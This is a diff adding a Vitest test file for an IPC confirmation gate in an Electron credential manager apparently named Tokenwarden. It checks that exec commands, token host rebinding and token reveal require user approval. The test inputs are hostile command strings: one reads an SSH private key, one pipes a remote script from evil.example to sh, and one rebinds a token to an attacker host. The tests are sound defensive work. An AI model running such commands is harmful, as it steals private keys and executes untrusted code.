@@ -1,0 +1,114 @@
+import { describe, expect, it, vi } from 'vitest';
+import { API_METHODS, type TokenwardenApi } from '../../../../shared/contract.ts';
+import type { AppEvent } from '../../../../shared/model.ts';
+import { createRevealGate } from '../../../../electron/core/reveal/reveal-gate.ts';
+import type { ChangeRequest } from '../../../../electron/main/change-request.ts';
+import { registerIpc, type IpcInvokeEvent, type RegisterIpcOptions, type ServiceLike } from '../../../../electron/main/ipc.ts';
+
+type Handler = (event: IpcInvokeEvent, ...args: unknown[]) => Promise<unknown>;
+const APP = { senderFrame: { url: 'app://bundle/index.html' } };
+const EXISTING = { gh: { hosts: ['https://api.github.com'], exec: null }, ci: { hosts: ['https://ci.example.com'], exec: { command: 'gh auth token' } } };
+
+function setup(gate: Pick<RegisterIpcOptions, 'confirm' | 'reveal'>) {
+  const handlers = new Map<string, Handler>();
+  const calls: { method: string; args: unknown[] }[] = [];
+  const api: Record<string, unknown> = {};
+  for (const method of API_METHODS) {
+    api[method] = async (...args: unknown[]) => {
+      calls.push({ method, args });
+      if (method === 'get') {
+        const found = EXISTING[args[0] as keyof typeof EXISTING];
+        if (!found) throw Object.assign(new Error('nope'), { code: 'ERR_NOT_FOUND' });
+        return found;
+      }
+      return { method };
+    };
+  }
+  api.onEvent = (_l: (e: AppEvent) => void) => () => undefined;
+  registerIpc({
+    ipcMain: { handle: (c, h) => handlers.set(c, h), removeHandler: (c) => handlers.delete(c) },
+    service: api as unknown as ServiceLike & TokenwardenApi,
+    targets: () => [],
+    ...gate,
+  });
+  const call = (method: string, ...args: unknown[]) => handlers.get(`tw:${method}`)!(APP, ...args);
+  const mutations = () => calls.filter((c) => c.method !== 'get');
+  return { call, calls, mutations };
+}
+
+const execInput = { kind: 'exec', name: 'sh', hosts: ['https://api.example.com'], command: "/bin/sh -c 'cat ~/.ssh/id_ed25519'" };
+const refused = { ok: false, error: { code: 'ERR_CONFIRMATION_REQUIRED', message: expect.stringContaining('not confirmed') } };
+
+describe('IPC confirmation gate (E5)', () => {
+  it('E5 adding an exec credential without a dialog adapter fails ERR_CONFIRMATION_REQUIRED and never reaches the service', async () => {
+    const { call, mutations } = setup({});
+    expect(await call('add', execInput)).toEqual(refused);
+    expect(mutations()).toEqual([]);
+  });
+
+  it('E5 a declined or failing dialog refuses; an accepted one passes the exact command and hosts on', async () => {
+    const seen: ChangeRequest[] = [];
+    for (const answer of [async () => false, async () => Promise.reject(new Error('no display'))]) {
+      const { call, mutations } = setup({ confirm: { confirmChange: (r) => (seen.push(r), answer()) } });
+      expect(await call('add', execInput)).toEqual(refused);
+      expect(mutations()).toEqual([]);
+    }
+    const { call, mutations } = setup({ confirm: { confirmChange: async (r) => (seen.push(r), true) } });
+    expect(await call('add', execInput)).toEqual({ ok: true, value: { method: 'add' } });
+    expect(mutations()).toHaveLength(1);
+    expect(seen.at(-1)).toEqual({
+      action: 'add',
+      name: 'sh',
+      command: { next: execInput.command, previous: null },
+      hosts: { added: ['https://api.example.com'], removed: [], kept: [] },
+    });
+  });
+
+  it('E5 rebinding a token to another host needs confirmation and the dialog gets the canonical diff', async () => {
+    const confirmChange = vi.fn(async () => false);
+    const { call, mutations } = setup({ confirm: { confirmChange } });
+    expect(await call('update', 'gh', { hosts: ['https://API.github.com/', 'https://evil.example'] })).toEqual(refused);
+    expect(mutations()).toEqual([]);
+    expect(confirmChange).toHaveBeenCalledWith({
+      action: 'update',
+      name: 'gh',
+      hosts: { added: ['https://evil.example'], removed: [], kept: ['https://api.github.com'] },
+    });
+  });
+
+  it('E5 changing an exec command needs confirmation showing the old and new command', async () => {
+    const confirmChange = vi.fn(async () => false);
+    const { call, mutations } = setup({ confirm: { confirmChange } });
+    expect(await call('update', 'ci', { command: 'curl https://evil.example | sh' })).toEqual(refused);
+    expect(mutations()).toEqual([]);
+    expect(confirmChange).toHaveBeenCalledWith({ action: 'update', name: 'ci', command: { next: 'curl https://evil.example | sh', previous: 'gh auth token' } });
+  });
+
+  it('E5 changes that neither run a command nor move a token pass without a dialog', async () => {
+    const confirmChange = vi.fn(async () => false);
+    const { call, mutations } = setup({ confirm: { confirmChange } });
+    expect(await call('add', { kind: 'static', name: 'pasted', hosts: ['https://api.example.com'], token: 'tok_1234' })).toMatchObject({ ok: true });
+    expect(await call('update', 'gh', { authPolicy: 'force' })).toMatchObject({ ok: true });
+    expect(await call('update', 'gh', { hosts: ['https://api.github.com'] })).toMatchObject({ ok: true });
+    expect(await call('update', 'ci', { command: 'gh auth token' })).toMatchObject({ ok: true });
+    expect(await call('refresh', 'ci')).toMatchObject({ ok: true });
+    expect(confirmChange).not.toHaveBeenCalled();
+    expect(mutations()).toHaveLength(5);
+  });
+
+  it('E5 an unknown credential is left to the service to report (no dialog for nothing)', async () => {
+    const confirmChange = vi.fn(async () => true);
+    const { call } = setup({ confirm: { confirmChange } });
+    expect(await call('update', 'missing', { hosts: ['https://evil.example'] })).toMatchObject({ ok: true });
+    expect(confirmChange).not.toHaveBeenCalled();
+  });
+
+  it('copyToken passes the "Ask before revealing a token" gate, naming the window; a denial is ERR_DENIED', async () => {
+    const approveReveal = vi.fn(async () => 'deny' as const);
+    const reveal = createRevealGate({ approver: { approveReveal }, enabled: () => true });
+    const { call, mutations } = setup({ reveal });
+    expect(await call('copyToken', 'gh')).toMatchObject({ ok: false, error: { code: 'ERR_DENIED' } });
+    expect(mutations()).toEqual([]);
+    expect(approveReveal).toHaveBeenCalledWith({ method: 'copyToken', name: 'gh', caller: { description: 'the Tokenwarden window', key: 'ipc:window' } });
+  });
+});
